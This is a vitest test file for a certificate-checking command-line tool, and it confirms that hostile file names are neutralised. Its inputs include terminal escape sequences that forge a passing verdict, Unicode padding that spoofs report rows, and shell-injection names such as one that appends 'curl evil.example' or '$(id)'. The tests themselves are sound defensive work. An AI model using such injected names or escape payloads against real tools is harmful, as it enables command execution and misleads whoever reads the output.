import { readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { openHome } from '../../../test/support/commandLine.ts'
import { shownName } from './shownName.ts'

const { folder, commands } = openHome()

describe('attack 146: a file whose name is a verdict', () => {
  test('it draws nothing on the screen of whoever checks it', async () => {
    const file = join(folder, 'x\x1b[2J\x1b[H\x1b[32mAS CLAIMED\x1b[0m  8 x H100 SXM\r\n\x1b[8m.json')
    writeFileSync(file, 'nothing')
    const { status, stdout, stderr } = await commands.run(['check', file])
    expect(status).toBe(1)
    expect(stdout).toMatch(/^REFUSED {2}/)
    expect(`${stdout}${stderr}`).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/)
  })

  test('attack 253: nor a row of ours, by blanks up to the end of its own', async () => {
    const row = 'found          8 x B200'
    expect(shownName(`x.json${' '.repeat(60)}${row}`)).toBe('x.json found 8 x B200')
    for (const blank of ['\u3000\u00a0\u2003', '\u2800', '\u3164', '\uffa0', '\u115f', '\u034f', '\u2800 \u3164'])
      expect(shownName(`x.json${blank.repeat(20)}${row}`)).toBe('x.json found 8 x B200')
  })

  test('attack 253: nor is it a command, in the line that whoever gets a report is to type', async () => {
    const genuine = join(folder, 'genuine.json')
    expect((await commands.run(['verify', '--preset', 'tiny', '--devices', 'cpu', '--out', genuine])).status).toBe(0)
    const typed = async (name: string) => {
      const [file, page] = [join(folder, name), join(folder, 'typed.html')]
      writeFileSync(file, readFileSync(genuine))
      expect((await commands.run(['report', file, '--html', page])).status).toBe(0)
      const html = readFileSync(page, 'utf8')
      // Whoever opens it later reads when that was.
      expect(/issued .*Z, .* before this check$/m.test(html)).toBe(true)
      // Attack 371: npx would run what the sender put beside the file.
      const line = />touchstone check (.*) --trust KEY, .* Get the program from its own source/
      return line.exec(html)?.[1]
    }
    expect(await typed('box-1.json')).toBe(join(folder, 'box-1.json'))
    for (const name of ['x.json; curl evil.example #.json', '$(id).json', '--policy.json', 'a b.json'])
      expect(await typed(name)).toBe(name.startsWith('--') ? join(folder, name) : 'FILE')
  })

  test('what opens a URL is not in the page that is sent to anyone', async () => {
    const server = createServer((_, answer) => answer.end('nothing'))
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    const { port } = server.address() as AddressInfo
    const page = join(folder, 'report.html')
    const url = `http://user:word@127.0.0.1:${port}/cert.json?token=secret`
    const { status, stdout } = await commands.run(['report', url, '--html', page])
    server.close()
    expect(status).toBe(1)
    const told = `${stdout}${readFileSync(page, 'utf8')}`
    expect(told).toContain(`http://127.0.0.1:${port}/cert.json`)
    expect(told).not.toMatch(/secret|word@/)
  })

  test('a name that is plain is told as it is', () => {
    for (const name of ['-', './a b/réport (1).json', 'C:\\x.json', 'https://example.org/a%20b.json'])
      expect(shownName(name)).toBe(name)
  })
})
